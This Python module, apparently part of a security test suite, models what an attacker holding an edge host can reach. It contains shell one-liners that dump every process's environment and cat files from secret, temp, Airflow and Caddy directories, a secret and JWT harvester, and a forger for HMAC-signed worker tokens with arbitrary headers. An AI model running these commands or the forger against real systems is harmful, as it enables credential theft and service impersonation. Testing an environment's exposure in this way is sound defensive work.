"""What somebody who took an edge host over has: all on its disk, in its memory's reach, and on its wire."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

    from _stack import EdgeHost

__all__ = ["Loot", "b64", "claims_of_worker", "forged", "keys_of", "loot"]

# Of every process that the attacker may look at, and every file that a volume or mount of the host holds.
_ENVIRONMENT = (
    "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; tr '\\0' '\\n' < $p/cmdline; done 2>/dev/null"
)
_FILES = (
    "find / -xdev -type f ( -path '/run/secrets/*' -o -path '/dev/shm/*' -o -path '/tmp/*' "
    "-o -path '/opt/airflow/*' -o -path '/etc/caddy/*' ) -size -64k -exec cat {} + 2>/dev/null;"
    " for d in /var/lib/airbridge /opt/airflow/logs /store /cache /run/secrets /dev/shm /tmp /data; do"
    " find $d -type f -size -64k 2>/dev/null | head -200 | xargs -r cat 2>/dev/null; done"
)
# Long enough to be a secret, of the characters that secrets are made of.
_SECRET_LIKE = re.compile(r"[A-Za-z0-9_.+/=:-]{12,4096}")
# What a search through files turns up a thousand times and is none: paths, addresses, module names.
_NO_SECRET = re.compile(r"(?!.{60})[a-z_]+(?:[./:-][A-Za-z0-9_]+)*|/.*|https?:.*|[0-9.:+TZ-]+|[A-Z_]+=?")


@dataclass(slots=True)
class Loot:
    """Strings that might open something."""

    strings: set[str] = field(default_factory=set)
    tokens: set[str] = field(default_factory=set)
    """Of these, what has the form of a JWT."""

    def add(self, text: str) -> None:
        """Take every string in ``text`` that has the look of a secret, and its parts."""
        for found in _SECRET_LIKE.findall(text):
            for one in (found, *found.split("=", 1), *found.split(".", 1)):
                if len(one) < 12 or _NO_SECRET.fullmatch(one):
                    continue
                (self.tokens if one.count(".") == 2 and one.startswith("eyJ") else self.strings).add(one)


def loot(*hosts: EdgeHost) -> Loot:
    """Search the containers of edge hosts."""
    found = Loot()
    for host in hosts:
        for service in ("uplink", "dag-sync", "edge-worker"):
            for command in (_ENVIRONMENT, _FILES):
                found.add(host.exec(service, "sh", "-c", command, check=False).stdout)
    return found


def b64(value: bytes | dict[str, Any]) -> str:
    """As a JWT has it."""
    raw = json.dumps(value).encode() if isinstance(value, dict) else value
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def forged(claims: dict[str, Any], key: bytes, algorithm: str = "HS512", **header: Any) -> str:
    """An HMAC token with any header at all; no library would make some of them."""
    head = b64({"alg": algorithm, "typ": "JWT", **header})
    signed = f"{head}.{b64(claims)}"
    signature = hmac.new(key, signed.encode(), _HASHES.get(algorithm, hashlib.sha512)).digest()
    return f"{signed}.{b64(signature)}"


def claims_of_worker(name: str, call: str, **changes: Any) -> dict[str, Any]:
    """Claims of an edge worker's token; a change to ``None`` leaves the claim out."""
    now = int(time.time())
    made = {"iss": name, "aud": "api", "iat": now, "nbf": now, "exp": now + 30, "method": call, **changes}
    return {key: value for key, value in made.items() if value is not None}


def keys_of(text: str) -> Iterator[bytes]:
    """A string as it is, and what it may be the encoding of."""
    yield text.encode()
    try:
        yield base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
    except ValueError:
        return
